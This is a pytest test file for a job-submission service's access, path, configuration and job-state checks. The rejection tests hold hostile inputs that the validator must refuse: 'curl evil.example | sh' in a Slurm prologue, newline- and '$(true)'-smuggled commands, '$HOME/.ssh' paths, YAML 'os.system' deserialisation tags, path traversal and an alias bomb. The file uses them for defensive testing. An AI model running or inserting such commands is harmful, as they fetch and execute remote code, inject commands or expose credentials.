"""The service's decisions, without a server: tokens and sessions, what may be submitted, what a job's state means."""

from __future__ import annotations

import itertools
import os
import time
from pathlib import Path

import line
import pytest

pytest.importorskip("fastapi")

from exitwave.ingest.errors import UsageError
from exitwave.workflows.service.access import SESSION_S, Access, load_token
from exitwave.workflows.service.catalogue import find_place, scan
from exitwave.workflows.service.jobs import Job, Jobs, judge
from exitwave.workflows.service.submit import checked, write_new

# ------------------------------------------------------------------------------------------------------------ access


def test_the_token_is_made_once_for_its_owner_alone(tmp_path):
    token = load_token(tmp_path / "token")
    assert len(token) >= 40
    assert load_token(tmp_path / "token") == token
    assert (tmp_path / "token").stat().st_mode & 0o777 == 0o600


def test_a_full_disk_leaves_no_half_of_a_token(tmp_path, monkeypatch):
    def full(fd):
        raise OSError(28, "No space left on device")

    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", full)
        with pytest.raises(OSError, match="No space"):
            load_token(tmp_path / "token")
    assert not list(tmp_path.iterdir())
    assert len(load_token(tmp_path / "token")) >= 40


def test_a_token_that_others_can_read_is_refused(tmp_path):
    load_token(tmp_path / "token")
    (tmp_path / "token").chmod(0o644)
    with pytest.raises(UsageError, match="0644"):
        load_token(tmp_path / "token")


def test_a_short_token_and_a_link_are_refused(tmp_path):
    (tmp_path / "token").write_text("secret")
    (tmp_path / "token").chmod(0o600)
    with pytest.raises(UsageError, match="32"):
        load_token(tmp_path / "token")
    (tmp_path / "other").symlink_to(tmp_path / "token")
    with pytest.raises(OSError):
        load_token(tmp_path / "other")


def test_sessions_hold_until_they_end_and_for_this_token_only():
    access = Access("a" * 43)
    cookie = access.open_session(now=1000.0)
    assert access.is_session(cookie, now=1000.0 + SESSION_S - 2)
    assert not access.is_session(cookie, now=1000.0 + SESSION_S + 2)
    assert not Access("b" * 43).is_session(cookie, now=1001.0)
    later = f"{int(1e10)}.{cookie.split('.', 1)[1]}"
    for forged in ("", ".", "..", "9999999999.x.", later, cookie[:-1], cookie + "0", "é" * 20):
        assert not access.is_session(forged, now=1001.0)
    assert access.is_csrf(cookie, access.csrf(cookie))
    assert not access.is_csrf(cookie, access.csrf(access.open_session()))


@pytest.mark.parametrize(
    "header", ["", "Bearer", "Bearer ", "Basic " + "a" * 43, "Bearer " + "a" * 42, "Bearer \udcff"]
)
def test_what_is_no_token(header):
    assert not Access("a" * 43).is_bearer(header)


def test_a_wrong_token_takes_as_long_however_much_of_it_is_right():
    access = Access("a" * 43)

    def seconds(presented: str) -> float:
        begun = time.process_time()  # of this process: others on the machine do not count
        for _ in range(2000):
            access.is_token(presented)
        return time.process_time() - begun

    rounds = [(seconds("b" * 43), seconds("a" * 42 + "b")) for _ in range(25)]
    far, near = (min(column) for column in zip(*rounds, strict=True))
    assert 0.7 < far / near < 1.4


# --------------------------------------------------------------------------------------------------------- catalogue


def test_runs_are_found_by_looking_and_links_are_not_followed(tmp_path):
    for name in ("root/a", "root/group/b/dataset", "root/.hidden", "outside"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "root/a/manifest.jsonl").touch()
    (tmp_path / "root/group/b/pipeline.yaml").touch()
    (tmp_path / "root/group/b/dataset/manifest.jsonl").touch()
    (tmp_path / "root/.hidden/manifest.jsonl").touch()
    (tmp_path / "outside/manifest.jsonl").touch()
    (tmp_path / "root/link").symlink_to(tmp_path / "outside")
    root = tmp_path / "root"
    assert [(p.id, p.kind) for p in scan(root)] == [("a", "campaign"), ("group~b", "pipeline")]
    found = find_place(root, "group~b")
    assert found is not None and found.dataset == root / "group/b/dataset"
    for id in ("link", "..", "..~outside", ".~a", "a~..~a", "group", "", "~", "a/../a", "/etc", "a\0", "x" * 5000):
        assert find_place(root, id) is None, id


# ---------------------------------------------------------------------------------------------------------- submit


def test_a_pipeline_is_taken_and_written_once(tmp_path):
    document = checked(line.PIPELINE, name="mine", root=tmp_path)
    path = write_new(document, name="mine", root=tmp_path)
    assert checked(path.read_text(), name="mine", root=tmp_path).data == document.data
    with pytest.raises(UsageError, match="already"):
        write_new(document, name="mine", root=tmp_path)
    assert write_new(document, name="mine", root=tmp_path, began=False) == path  # the service was killed just then
    (tmp_path / "own.yaml").write_text("of a person")
    with pytest.raises(UsageError, match="already"):
        write_new(document, name="own", root=tmp_path, began=False)


def test_a_name_is_free_again_after_a_full_disk(tmp_path, monkeypatch):
    def full(fd):
        raise OSError(28, "No space left on device")

    document = checked(line.PIPELINE, name="mine", root=tmp_path)
    with monkeypatch.context() as patch:
        patch.setattr(os, "fsync", full)
        with pytest.raises(OSError, match="No space"):
            write_new(document, name="mine", root=tmp_path)
    assert not (tmp_path / "mine.yaml").exists()


@pytest.mark.parametrize("name", ["..", "../x", "a/b", "", ".hidden", "a b", "x" * 101, "a\n", "ä"])
def test_names_that_are_no_names(tmp_path, name):
    with pytest.raises(UsageError, match="name"):
        checked(line.PIPELINE, name=name, root=tmp_path)


@pytest.mark.parametrize(
    "source",
    [
        "{cif: /etc/passwd}",
        "{cif: ../secret.cif}",
        "{cif: [a.cif, '~root/x.cif']}",
        "{cif: link/*.cif}",
        "{cif: 'http://example.org/a.cif'}",
        "{ase_db: /var/lib/x.db}",
        '{cif: "a\\0.cif"}',
    ],
)
def test_paths_outside_the_root_are_refused(tmp_path, source):
    (tmp_path / "root").mkdir()
    (tmp_path / "root" / "link").symlink_to("/etc")
    text = line.PIPELINE.replace("- library: [Au, Si]\n      split: train", f"- {source}")
    with pytest.raises(UsageError, match="below the service's root"):
        checked(text, name="mine", root=tmp_path / "root")


@pytest.mark.parametrize(
    "section",
    [
        "cluster: {kind: 'tcp://evil.example:8786'}",
        "cluster: {kind: slurm, slurm: {prologue: ['curl evil.example | sh']}}",
        "cluster: {kind: slurm, slurm: {directives: ['--wrap=true']}}",
        "cluster: {kind: slurm, slurm: {python: /tmp/evil}}",
        'cluster: {kind: slurm, slurm: {partition: "cpu\\ncurl evil.example"}}',
        "cluster: {kind: slurm, slurm: {account: '$(true)'}}",
        "cluster: {workers: 2}\nlaunch: {nodes: 2, slurm: {prologue: [true]}}",
        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '$(true)'}",
        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '/etc'}",
        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '$HOME/.ssh'}",
        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '$TMPDIR/$HOME'}",
        "cluster: {workers: 2}\nlaunch: {nodes: 2, cache: '${HOME}/x'}",
    ],
)
def test_what_would_run_the_senders_program_is_refused(tmp_path, section):
    text = line.PIPELINE.replace("cluster: {kind: local, workers: 2}", section)
    assert text != line.PIPELINE
    with pytest.raises(UsageError, match=r"mine\.yaml:"):
        checked(text, name="mine", root=tmp_path)


def test_a_plain_cluster_is_taken(tmp_path):
    slurm = "cluster: {kind: slurm, workers: 4, slurm: {partition: cpu, account: phys, walltime: '04:00:00'}}"
    checked(line.PIPELINE.replace("cluster: {kind: local, workers: 2}", slurm), name="mine", root=tmp_path)


def test_a_bomb_of_aliases_is_refused_soon(tmp_path):
    names = "abcdefghij"
    lines = ["a: &a [x, x, x, x, x, x, x, x, x]"]
    lines += [f"{n}: &{n} [{', '.join(9 * ['*' + before])}]" for before, n in itertools.pairwise(names)]
    begun = time.process_time()
    with pytest.raises(UsageError, match="aliases"):
        checked("\n".join(lines), name="mine", root=tmp_path)
    assert time.process_time() - begun < 20


def test_a_file_that_is_changed_for_a_link_meanwhile_is_not_read(tmp_path):
    from exitwave.workflows.service.catalogue import read_inside

    root = tmp_path / "root"
    (root / "run").mkdir(parents=True)
    (root / "run" / "report.html").write_text("ours")
    (tmp_path / "elsewhere").mkdir()
    (tmp_path / "elsewhere" / "report.html").write_text("another's")
    assert read_inside(root, root / "run" / "report.html") == b"ours"
    (root / "run").rename(root / "before")
    (root / "run").symlink_to(tmp_path / "elsewhere")  # between the look at the folder and the opening
    assert read_inside(root, root / "run" / "report.html") is None
    assert read_inside(root, root / "nothing") is None and read_inside(root, root / "before") is None


@pytest.mark.parametrize(
    "text",
    [
        "!!python/object/apply:os.system ['true']",
        "name: !!python/name:os.system",
        "a: &a [x]\nb: *a",
        "a: " + "[" * 5000,
        "\x00",
        "[1, 2]",
        "",
        "name: x\nsimulator: {use: 'os:system'}\nparameters: {}",
        "name: x\nsimulator: {use: simulators/heat}\nparameters: {}",
    ],
)
def test_what_is_no_configuration_is_one_message(tmp_path, text):
    with pytest.raises(UsageError):
        checked(text, name="mine", root=tmp_path)


# -------------------------------------------------------------------------------------------------------------- jobs


def job(**changes):
    return Job(**{"id": "a", "arguments": ("run",), "started": 100.0, "starts": 1, **changes})


@pytest.mark.parametrize(
    ("given", "alive", "code", "now", "state", "start"),
    [
        (job(started=0, starts=0), False, None, 101, "starting", True),
        (job(), True, None, 101, "running", False),
        (job(wanted="drain"), True, None, 101, "stopping", False),
        (job(wanted="drain"), False, 75, 101, "stopped", False),
        (job(wanted="cancel"), False, None, 101, "stopped", False),  # killed while it was stopping
        (job(), False, 0, 101, "finished", False),
        (job(wanted="drain"), False, 0, 101, "finished", False),  # it was over before it heard
        (job(), False, 3, 101, "finished", False),
        (job(), False, 2, 101, "failed", False),
        (job(), False, 1, 101, "failed", False),
        (job(), False, None, 101, "starting", False),  # it was started just now
        (job(), False, None, 104, "waiting", False),  # killed
        (job(), False, None, 106, "starting", True),
        (job(), False, 75, 106, "starting", True),  # SIGTERM from elsewhere, or a full disk
        (job(starts=3), False, 75, 119, "waiting", False),
        (job(starts=3), False, 75, 121, "starting", True),
        (job(starts=9), False, None, 1e6, "failed", False),
        (job(started=1e6), False, None, 100, "starting", True),  # the clock was set back
    ],
)
def test_what_becomes_of_a_job(given, alive, code, now, state, start):
    verdict = judge(given, alive=alive, code=code, now=now)
    assert (verdict.state, verdict.start) == (state, start)


def until(condition, seconds=60.0):
    end = time.monotonic() + seconds
    while not condition():
        assert time.monotonic() < end
        time.sleep(0.05)


def test_a_job_runs_once_however_often_it_is_started(tmp_path):
    (tmp_path / "p.yaml").write_text("nonsense: 1\n")
    jobs = Jobs(tmp_path, lambda id: "")
    jobs.want("p", ["run", str(tmp_path / "p.yaml"), "--out", str(tmp_path / "p")])
    jobs.reconcile()
    another = Jobs(tmp_path, lambda id: "")  # a service that was killed and came again
    another.reconcile()
    until(lambda: another.verdict(another.all()["p"]).state == "failed")
    assert "refused" in another.verdict(another.all()["p"]).why
    assert "p.yaml" in another.log("p")
    assert another.all()["p"].starts == 1


def test_an_unreadable_job_harms_no_other(tmp_path):
    jobs = Jobs(tmp_path, lambda id: "")
    jobs.want("good", ["doctor"])
    for name, text in (("torn", '{"id": "to'), ("wrong", '{"id": 3}'), ("other", '{"id": "x", "arguments": []}')):
        folder = tmp_path / ".exitwave" / "jobs" / name
        folder.mkdir()
        (folder / "job.json").write_text(text)
    os.mkdir(tmp_path / ".exitwave" / "jobs" / "empty")  # noqa: PTH102
    assert list(jobs.all()) == ["good"]
    assert Path(tmp_path / ".exitwave" / "jobs").stat().st_mode & 0o077 == 0


# ----------------------------------------------------------------------------------------------------- what is seen


def test_a_training_is_folded_once_and_steps_done_again_count_once(tmp_path, monkeypatch):
    from exitwave.ingest.events import EventLog, EventTail
    from exitwave.workflows import training_seen

    read: list[int] = []
    whole = EventTail.read

    def counted(tail: EventTail):
        events = whole(tail)
        read.append(len(events))
        return events

    monkeypatch.setattr(EventTail, "read", counted)
    followed = training_seen.FollowedTraining(tmp_path)
    assert followed.look().words() == "not yet"
    log = EventLog(tmp_path / "events.jsonl")
    log.emit("train_started", step=0, total_steps=9)
    assert followed.look().words() == "started"
    for step in range(1, 6):
        log.emit("train_step", step=step, loss=10.0 - step)
    log.emit("train_eval", step=5, loss=4.0)
    seen = followed.look()
    assert (seen.words(), seen.curve[0], seen.curve[-1]) == ("step 5 of 9, loss 5", (1, 9.0), (5, 5.0))
    with (tmp_path / "events.jsonl").open("ab") as file:
        file.write(b'{"kind": "train_step", "step": "torn')  # a crash; the next writer begins a fresh line
    assert followed.look().last == (5, 5.0)
    log = EventLog(tmp_path / "events.jsonl")
    log.emit("train_resumed", step=4, total_steps=9)
    log.emit("train_step", step=5, loss=1.0)
    seen = followed.look()
    assert seen.curve == [(1, 9.0), (2, 8.0), (3, 7.0), (4, 6.0), (5, 1.0)] and seen.validation == []
    assert followed.look() is seen and sum(read) == 9  # every event once, whoever asks
    (tmp_path / "events.jsonl").unlink()
    assert not followed.look().any


def test_a_long_training_is_kept_short():
    from exitwave.workflows.training_seen import TrainingSeen

    seen = TrainingSeen()
    for step in range(1, 50_002):
        seen.feed({"kind": "train_step", "step": step, "loss": 1 / step})
    steps = [step for step, _ in seen.curve]
    assert steps[-1] == 50_001 and len(steps) <= 801 and steps == sorted(set(steps))
    gaps = {b - a for a, b in itertools.pairwise(steps[:-1])}
    assert max(gaps) <= 2 * min(gaps)


def test_what_many_ask_for_is_made_once():
    import threading

    from exitwave.workflows.service.shared import Shared

    made = []

    def make(key: str) -> str:
        made.append(key)
        time.sleep(0.02)
        return key.upper()

    shared = Shared(make, for_s=30)
    threads = [threading.Thread(target=shared.get, args=("a",)) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert made == ["a"] and shared.fresh("a") == "A" and shared.fresh("b") is None
    shared.forget("a")
    assert shared.get("a") == "A" and made == ["a", "a"]


def test_a_search_is_one_run_with_a_table_of_its_trials(tmp_path):
    from exitwave.ingest.events import EventLog
    from exitwave.ingest.files import FileLock
    from exitwave.workflows.service.facts import Facts

    study = tmp_path / "search"
    (study / "trials" / "0").mkdir(parents=True)
    (study / "trials" / "0" / "train.json").write_text("{}")
    (study / "tune.yaml").write_text("name: search")
    log = EventLog(study / "events.jsonl")
    log.emit("study_started", name="search", trials=4, dataset_id="x", cluster="inline")
    for n in range(2):
        log.emit("trial_asked", n=n, values={"train.optimizer.lr": 0.1 * (n + 1)})
        log.emit("trial_begun", n=n, ranks=1)
    log.emit("trial_reported", n=0, rung=1, step=5, value=0.5)
    log.emit("trial_finished", n=0, step=9, value=0.25, seconds=2.0)
    (place,) = scan(tmp_path)
    assert (place.kind, place.training, place.dataset) == ("study", None, study / "dataset")
    facts = Facts().whole(place, None, None)
    assert facts["state"] == "stopped"
    table = facts["trials"]
    assert table["columns"] == ["trial", "optimizer.lr", "state", "objective", "seconds"]
    assert table["rows"] == [[1, 0.2, "running", None, None], [0, 0.1, "finished", 0.25, 2.0]]
    assert (table["done"], table["planned"]) == (1, 4)
    with FileLock(study / ".lock"):
        assert Facts().short(place, None, None)["state"] == "running"
    log.emit("study_finished")
    assert Facts().short(place, None, None)["state"] == "finished"


@pytest.mark.parametrize(
    ("section", "words"),
    [
        ("", ["run", "C", "--out", "O"]),
        ("online: {}\n", ["run", "C", "--online", "--out", "O"]),
        ("tune: {}\n", ["tune", "C", "--out", "O"]),
        ("tune: null\nonline: null\n", ["run", "C", "--out", "O"]),
    ],
)
def test_what_a_submission_starts(section, words):
    from exitwave.workflows.config import parse_document
    from exitwave.workflows.service.submit import arguments_for, verb_of

    document = parse_document(section + line.PIPELINE, source="a.yaml", folder=Path())
    assert arguments_for(Path("C"), Path("O"), verb=verb_of(document)) == words


def test_a_run_that_a_command_line_goes_on_with_is_no_job_of_ours(tmp_path):
    from exitwave.ingest.files import FileLock
    from exitwave.workflows.service.runs import Conflict, Runs

    runs = Runs(tmp_path)
    runs.jobs.want("a", ["run", "a.yaml"])
    (tmp_path / ".exitwave" / "jobs" / "a" / "exit.json").write_text('{"code": 2}')
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "pipeline.yaml").write_text("name: a")
    assert runs.whole("a")["state"] == "failed"
    with FileLock(tmp_path / "a" / ".lock"):
        assert runs.whole("a")["state"] == "running"
        with pytest.raises(Conflict, match="command line"):
            runs.command("a", "drain")
    assert not (tmp_path / ".exitwave" / "jobs" / "a" / "stop").exists()


def test_a_search_comes_further_with_its_trials(tmp_path):
    from exitwave.workflows.service.facts import how_far

    trial = tmp_path / "a" / "trials" / "0"
    (trial / "checkpoints").mkdir(parents=True)
    (tmp_path / "a" / "tune.yaml").write_text("name: a")
    place = find_place(tmp_path, "a")
    before = how_far(place)
    assert how_far(place) == before
    (trial / "checkpoints" / "step-1").mkdir()
    os.utime(trial / "checkpoints", (1, 1))
    assert how_far(place) != before
